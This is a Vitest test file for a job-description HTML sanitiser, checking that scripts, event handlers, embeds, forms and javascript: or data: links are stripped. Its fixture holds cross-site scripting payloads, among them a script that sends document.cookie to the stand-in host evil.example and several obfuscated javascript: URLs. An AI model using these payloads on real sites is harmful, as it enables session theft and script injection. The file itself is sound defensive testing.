import { describe, expect, it } from 'vitest';
import { cleanText, decodeEscapedHtml, sanitiseDescription } from '../../../src/lib/ats/sanitise.ts';

describe('the description sanitiser', () => {
  it('lets nothing run, style, embed or load from elsewhere', () => {
    const hostile = [
      '<h1 onclick="steal()">Senior <em>Bridge</em> Engineer</h1>',
      '<p style="position:fixed" class="x" id="apply">Read <a href="javascript:alert(1)">this</a>, <a href=" JaVaScRiPt:alert(2)">that</a>, <a href="jav&#x61;script:alert(3)">entity</a> and <a href="data:text/html,<script>alert(4)</script>">data</a>.</p>',
      '<p><a href="https://brugwerk.be/team" target="_blank" onmouseover="steal()" rel="opener">The team</a> · <a href="mailto:jobs@brugwerk.be">mail</a></p>',
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
      '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
      '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
      '<img src="https://tracker.example/pixel.gif" onerror="steal()" alt="pixel">',
      '<svg><script>alert(5)</script><a xlink:href="javascript:alert(6)">svg</a></svg>',
      '<form action="https://evil.example"><input name="cv"><button formaction="javascript:alert(7)">Send</button></form>',
      '<table><tr><td colspan="2" onclick="x()">Salary</td></tr></table>',
      '<div><span data-x="1">Plain</span> text &amp; <b>bold</b></div><!-- a comment --><template><p>hidden</p></template>',
      '<p><noscript><p>fallback</p></noscript></p><math><mi>x</mi></math>',
    ].join('\n');
    expect(sanitiseDescription(hostile)).not.toMatch(/<(script|style|iframe|object|embed|img|svg|form|input|button|link|template)|\son\w+=|javascript:|data:|style=|class=|id=/i);
    expect(sanitiseDescription(hostile)).toMatchInlineSnapshot(`
      "<h2>Senior <em>Bridge</em> Engineer</h2>
      <p>Read <a>this</a>, <a>that</a>, <a>entity</a> and <a>data</a>.</p>
      <p><a href="https://brugwerk.be/team">The team</a> · <a href="mailto:jobs@brugwerk.be">mail</a></p>

      <table><tbody><tr><td colspan="2">Salary</td></tr></tbody></table>
      <div>Plain text &#x26; <b>bold</b></div>
      <p>fallback</p>"
    `);
  });

  it('decodes entity-escaped HTML (Greenhouse) once, and leaves real HTML alone', () => {
    expect(decodeEscapedHtml('&lt;p&gt;R&amp;amp;D &lt;script&gt;x()&lt;/script&gt;&lt;/p&gt;')).toBe('<p>R&amp;D <script>x()</script></p>');
    expect(sanitiseDescription(decodeEscapedHtml('&lt;p&gt;R&amp;amp;D &lt;script&gt;x()&lt;/script&gt;&lt;/p&gt;'))).toBe('<p>R&#x26;D </p>');
    expect(decodeEscapedHtml('<p>Already &lt;b&gt; HTML</p>')).toBe('<p>Already &lt;b&gt; HTML</p>');
  });

  it('cleans plain text: no control characters, collapsed white space, a length limit', () => {
    expect(cleanText('  Data\u0000 Engineer\u202e\n\t(m/f/x) ')).toBe('Data Engineer (m/f/x)');
    expect(cleanText('x'.repeat(300))).toHaveLength(200);
    expect(cleanText({ title: 'x' })).toBe('');
  });
});
